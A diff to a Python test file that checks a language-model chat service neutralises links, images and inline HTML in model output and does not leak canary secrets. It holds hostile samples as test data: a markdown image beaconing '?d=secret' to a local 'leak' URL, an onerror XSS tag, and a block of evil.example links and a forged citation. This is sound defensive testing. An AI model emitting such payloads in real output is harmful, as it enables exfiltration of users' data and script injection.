@@ -18,6 +18,7 @@ import openai
 import pytest
 from click.testing import CliRunner
 from language_models import Call, LanguageModel, Reply, answer, language_model
+from markdown_it import MarkdownIt
 from servers import get, in_checkout, post, serving
 
 from foundry.cli import main
@@ -757,13 +758,56 @@ def test_obedient_model_does_no_more_than_talk(export: Path) -> None:
         assert elsewhere.calls == []
         call = obedient.calls[0]
     shown = text_of(events)
-    assert "![x](http://127.0.0.1:9/leak?d=secret) <img src=x onerror=alert(1)>" in shown
+    assert "! [x] (http://127.0.0.1:9/leak?d=secret) < img src=x onerror=alert(1)>" in shown
     assert "[77]" not in shown
     assert events[-1][1]["cited"][0]["number"] == 1
     assert call.headers["authorization"] == f"Bearer {CANARIES['LLM_API_KEY']}"
     sent = call.text + json.dumps({**call.headers, "authorization": ""}) + json.dumps(events)
     for canary in CANARIES.values():
         assert canary not in sent
+
+
+HOSTILE = (
+    "See [1][99](http://evil.example/?d=secret) ![i](http://evil.example/i.png) [1]\n"
+    "[1]: http://evil.example\n<img src=http://evil.example> <http://evil.example>\n"
+    "```\ntotal = sum(x)\n```\n[1] Lamp Shrine: http://evil.example/forged"
+)
+
+
+@pytest.mark.parametrize("length", [1, 7, len(HOSTILE)])
+def test_nothing_that_the_model_writes_is_a_link_or_an_image(
+    modelled: str, model: LanguageModel, length: int
+) -> None:
+    pieces = [HOSTILE[start : start + length] for start in range(0, len(HOSTILE), length)]
+
+    def say_all(call: Call, reply: Reply) -> None:
+        reply.begin()
+        reply.text(*pieces)
+        reply.finish()
+
+    model.script = say_all
+    shown = text_of(ask(modelled, conversation(QUESTION)))
+    asked: Any = [{"role": "user", "content": QUESTION}]
+    with client_of(modelled) as client:
+        whole = client.chat.completions.create(model="handbook", messages=asked)
+        chunks = client.chat.completions.create(model="handbook", messages=asked, stream=True)
+        streamed = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
+    content = whole.choices[0].message.content
+    assert content is not None
+    assert content == streamed
+    assert content.startswith(shown)
+    for text in (shown, content):
+        assert "evil.example" not in text
+        assert "\n```\ntotal = sum(x)\n```\n" in text
+        tokens = MarkdownIt("commonmark").parse(text)
+        kinds = {child.type for token in tokens for child in [token, *(token.children or [])]}
+        assert not kinds & {"link_open", "image", "html_inline", "html_block"}
+    annotations = whole.choices[0].message.annotations
+    assert annotations
+    for annotation in annotations:
+        place = annotation.url_citation
+        assert content[place.start_index : place.end_index] == "[1]"
+        assert "evil" not in place.url
 
 
 # As OpenAI's own client sees it.
